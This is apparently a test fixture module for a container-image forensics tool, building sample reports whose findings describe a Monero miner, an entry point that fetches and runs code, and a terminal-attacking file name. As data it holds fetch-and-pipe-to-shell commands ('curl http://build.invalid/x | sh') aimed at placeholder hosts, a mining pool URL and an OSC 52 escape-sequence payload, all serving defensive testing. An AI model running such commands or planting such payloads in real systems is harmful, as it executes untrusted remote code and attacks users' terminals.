"""Hand-made reports: every section filled, texts of which a hostile image could be the author."""

from __future__ import annotations

from forensics.model.files import FileState
from forensics.model.findings import Category, Confidence, Evidence, Finding, Severity, finding_id
from forensics.model.issues import Issue
from forensics.model.report import (
    SCHEMA,
    AlteredFile,
    Coverage,
    FileDrift,
    PackageDriftReport,
    Report,
    ReportConfig,
    ReportFile,
    ReportHistory,
    ReportImage,
    ReportLayer,
    ReportPackage,
    ReportSbom,
    SbomSection,
    SignaturePack,
    SignatureState,
    Tool,
    UndeclaredPackageFile,
    UnownedFile,
    Verdict,
)
from forensics.model.sbom import AbsentComponent, MissingFile, UndeclaredPackage, VersionChange

DIGEST = "sha256:" + "ab" * 32
CONTENT = "cd" * 32


def make_finding(
    rule_id: str = "miner/monero-client",
    *,
    severity: Severity = Severity.CRITICAL,
    layer: int | None = 1,
    path: str | None = "/usr/lib/.x/kworker",
    path_base64: str | None = None,
    state: FileState | None = FileState.DELETED,
    changed_by_layer: int | None = 2,
    evidence: tuple[Evidence, ...] = (
        Evidence(kind="bytes", text="stratum+tcp://pool.invalid", offset=0x2F1C0, length=26),
        Evidence(kind="bytes", text="donate-level", offset=0x2F200, length=12),
        Evidence(kind="metadata", text="mode 0755"),
    ),
    confidence: Confidence = Confidence.HIGH,
    title: str = "Monero mining client",
) -> Finding:
    """One finding, by default about a file that a later layer deleted."""
    return Finding(
        id=finding_id(rule_id, layer, path, title),
        rule_id=rule_id,
        category=Category.MINER,
        severity=severity,
        confidence=confidence,
        title=title,
        explanation="Four cues of a Monero miner stand in one file.",
        remediation="Find out which build step brought the file and rotate what it could reach.",
        alternatives="A mining pool's own server image.",
        layer=layer,
        instruction="" if layer is None else "RUN curl http://build.invalid/x | sh",
        path=path,
        path_base64=path_base64,
        state=state,
        changed_by_layer=changed_by_layer,
        sha256=CONTENT if path else None,
        package=None,
        evidence=evidence,
        attack=("T1496",),
        references=("https://attack.mitre.org/techniques/T1496/",),
    )


FINDINGS = (
    make_finding(),
    make_finding(
        "start/entrypoint-fetches",
        severity=Severity.HIGH,
        layer=None,
        path=None,
        state=None,
        changed_by_layer=None,
        confidence=Confidence.MEDIUM,
        title="The entry point fetches a program and runs it",
        evidence=(Evidence(kind="config", text='Entrypoint ["sh","-c","curl http://x.invalid | sh"]'),),
    ),
    make_finding(
        "archive/layer-digest",
        severity=Severity.MEDIUM,
        layer=1,
        path=None,
        state=None,
        changed_by_layer=None,
        title="A layer's bytes are not what was declared",
        evidence=(Evidence(kind="digest", text=f"declared {DIGEST}"),),
    ),
    make_finding(
        "names/terminal-attack",
        severity=Severity.LOW,
        layer=2,
        path="/tmp/\\x1b]52;c;cHduZWQ=\\x07[/foo]",
        path_base64="L3RtcC8bXTUyO2M7Y0hkdVpXUT0HWy9mb29d",
        state=FileState.VISIBLE,
        changed_by_layer=None,
        title="A file name that attacks a terminal",
        evidence=(),
    ),
)


def make_report(
    findings: tuple[Finding, ...] = FINDINGS,
    files: tuple[ReportFile, ...] | None = None,
    issues: tuple[Issue, ...] | None = None,
    level: str = "malicious",
) -> Report:
    """A report with every section filled."""
    return Report(
        schema=SCHEMA,
        tool=Tool(
            name="image-forensics",
            version="0.1.0",
            signatures=SignatureState(
                digest=DIGEST, rules=42, packs=(SignaturePack(name="bundled", rules=42, digest=DIGEST),)
            ),
            started="2026-01-02T03:04:05Z",
        ),
        image=_image(),
        verdict=Verdict(
            level=level, score=97, reasons=("Monero mining client in layer 1",) if findings else ()
        ),
        sbom=_drift(),
        packages=(
            ReportPackage(
                name="busybox",
                version="1.36.1-r15",
                type="apk",
                purl="pkg:apk/alpine/busybox@1.36.1-r15?arch=x86_64",
                arch="x86_64",
                licenses=("GPL-2.0-only",),
                layer=0,
                locations=("/lib/apk/db/installed",),
                files=5,
            ),
        ),
        findings=findings,
        coverage=Coverage(
            files=4,
            bytes=4096,
            examined_files=3,
            examined_bytes=3996,
            issues=_ISSUES if issues is None else issues,
        ),
        timings={"open": 0.01, "layers": 0.2, "examine": 1.5},
        files=_FILES if files is None else files,
    )


_ISSUES = (
    Issue(
        stage="examine",
        code="worker-died",
        subject="layer 1:/opt/a",
        message="the file stopped two workers",
        lost_bytes=100,
    ),
    Issue(stage="source", code="digest-mismatch", subject="layer 1", message="declared digest not met"),
)

_FILES = (
    ReportFile(
        path="/bin/busybox", layer=0, offset=512, kind="regular", size=800, mode=0o755, sha256=CONTENT
    ),
    ReportFile(
        path="/tmp/\\xff",
        path_base64="L3RtcC//",
        layer=2,
        offset=1024,
        kind="symlink",
        link="/bin/sh",
        state="visible",
    ),
)


def _image() -> ReportImage:
    layers = tuple(
        ReportLayer(
            index=index,
            digest=DIGEST,
            diff_id=DIGEST,
            media_type="application/vnd.oci.image.layer.v1.tar+gzip",
            compressed_size=1_200_000 * (index + 1),
            size=3_500_000 * (index + 1),
            entries=300 - index,
            created_by=instruction,
            created="2026-01-01T00:00:00Z",
            verified=verified,
            base=index == 0,
            compression="gzip",
            added=300 - index,
            modified=index,
            deleted=index // 2,
        )
        for index, (instruction, verified) in enumerate(
            (
                ("ADD rootfs.tar / # buildkit", True),
                ("RUN curl http://build.invalid/x | sh", False),
                ("RUN rm -rf /usr/lib/.x", None),
            )
        )
    )
    return ReportImage(
        source="docker_archive",
        reference="suspect.tar",
        manifest_digest=DIGEST,
        config_digest=DIGEST,
        platform="linux/amd64",
        tags=("shop/web:1.27",),
        created="2026-01-01T00:00:00Z",
        config=ReportConfig(
            user="root",
            entrypoint=("sh", "-c", "curl http://x.invalid | sh"),
            env=("PATH=/usr/bin",),
            labels={"maintainer": "nobody"},
            history=(ReportHistory(created="", created_by="ADD rootfs.tar /", comment="", layer=0),),
        ),
        layers=layers,
        distribution="Alpine Linux v3.19",
    )


def _drift() -> SbomSection:
    return SbomSection(
        reference="sbom",
        declared=(
            ReportSbom(
                origin="--sbom web.cdx.json", format="cyclonedx", spec_version="1.6", components=41, files=0
            ),
        ),
        packages=PackageDriftReport(
            matched=40,
            undeclared=(
                UndeclaredPackage(name="socat", version="1.8", type="apk", purl="pkg:apk/socat@1.8", layer=1),
            ),
            absent=(
                AbsentComponent(name="curl", version="8.5", purl="pkg:apk/curl@8.5", origin="web.cdx.json"),
            ),
            version_changed=(
                VersionChange(
                    name="musl", declared="1.2.4", found="1.2.5", purl="pkg:apk/musl@1.2.5", layer=1
                ),
            ),
        ),
        files=FileDrift(
            declared=0,
            package=70,
            generated=12,
            known_good=0,
            altered=(
                AlteredFile(layer=1, path="/bin/ls", state="visible", claimed_by="apk/busybox@1.36.1-r15"),
            ),
            undeclared_package=(
                UndeclaredPackageFile(
                    layer=1, path="/usr/bin/socat", state="visible", package="apk/socat@1.8"
                ),
            ),
            unowned=(UnownedFile(layer=1, path="/usr/lib/.x/kworker", state="deleted", kind="elf"),),
            unowned_other=3,
            missing=(MissingFile(path="/usr/bin/curl", claimed_by="apk/curl@8.5"),),
        ),
    )


def many_files(count: int) -> tuple[ReportFile, ...]:
    """`count` rows as a large image has them, every tenth name beyond ASCII."""
    return tuple(
        ReportFile(
            path=f"/usr/share/doc/paket-{number}/{'änderung' if number % 10 == 0 else 'changelog'}.gz",
            layer=number % 7,
            offset=number * 512,
            kind="regular",
            size=number,
            mode=0o644,
            mtime=1_700_000_000.0,
            sha256=f"{number:064x}",
            status="package",
            claimed_by=f"deb/paket-{number}@1.0",
            type="gzip",
        )
        for number in range(count)
    )
